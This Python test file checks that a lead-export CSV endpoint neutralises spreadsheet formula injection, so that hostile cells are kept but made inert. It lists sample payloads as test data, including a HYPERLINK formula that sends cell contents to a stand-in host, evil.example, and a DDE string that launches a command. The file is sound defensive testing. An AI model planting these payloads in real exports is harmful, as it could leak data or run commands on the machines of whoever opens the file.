"""``/leads.csv`` never hands a spreadsheet a formula, whichever cell a sender controls."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from livekit.agents import ToolError

from signalroom.agent import normalize_signal
from signalroom.dashboard.app import create_app
from signalroom.dashboard.csv_safe import csv_cell
from tests.dashboard.records import PERSONAS, build_record, write_warehouse

#: What spreadsheets run, or read as the start of a formula, at a cell's start (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "\t=1+1",
    "\r=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "＝1+1",  # full-width equals sign: some spreadsheets take it as "="
    " =1+1",
)


def _starts_unsafe(cell: str) -> bool:
    head = unicodedata.normalize("NFKC", cell.lstrip(" ")[:1])
    return cell[:1] in TRIGGERS or head in TRIGGERS


async def test_every_leads_csv_cell_is_neutralised(tmp_path: Path) -> None:
    record = build_record(0, PERSONAS[0], datetime(2026, 11, 30, 10, tzinfo=UTC))
    signals = record.discovered_signals.model_copy(update={"integration_needs": list(HOSTILE)})
    hostile = record.model_copy(
        update={"session_id": "@SUM(1+1)*cmd|' /C calc'!A0", "discovered_signals": signals}
    )
    url = f"duckdb://{tmp_path}/w.duckdb"
    write_warehouse(url, [hostile])
    transport = httpx.ASGITransport(app=create_app(url), client=("127.0.0.1", 50000))
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:8765") as c:
        exported = await c.get("/leads.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert len(rows) == 2
    header, row = rows
    cells = dict(zip(header, row, strict=True))
    assert not [cell for cell in row if _starts_unsafe(cell)], row
    assert cells["session_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"  # kept, only made inert
    # a list is one cell: its first item decides how a spreadsheet reads it
    assert cells["integration_needs"].startswith("'")
    assert all(h.strip() in cells["integration_needs"] for h in HOSTILE if h.strip())


@given(st.text(max_size=40) | st.lists(st.text(max_size=10), max_size=4))
def test_no_generated_cell_starts_a_formula(value: str | list[str]) -> None:
    cell = csv_cell(value)
    assert isinstance(cell, str)
    assert not _starts_unsafe(cell)
    joined = ";".join(value) if isinstance(value, list) else value
    assert cell in (joined, "'" + joined)  # nothing else changes


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (12, 12),
        (-3.5, -3.5),  # a number is a number, not a formula
        (True, True),
        (datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "2026-01-02T03:04:00+00:00"),
        (["salesforce", "api"], "salesforce;api"),
        ("legal", "legal"),
    ],
)
def test_plain_values_pass_unchanged(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


@pytest.mark.parametrize("value", ['=HYPERLINK("http://x")', "\t=1+1", "@SUM(A1)", "-1+1"])
def test_the_signal_tool_refuses_free_text_integrations(value: str) -> None:
    with pytest.raises(ToolError, match="integration"):
        normalize_signal("integration_needs", value)


def test_the_signal_tool_keeps_known_integrations_canonical() -> None:
    assert normalize_signal("integration_needs", "Salesforce") == "salesforce"
    assert normalize_signal("integration_needs", "google-drive") == "google_drive"
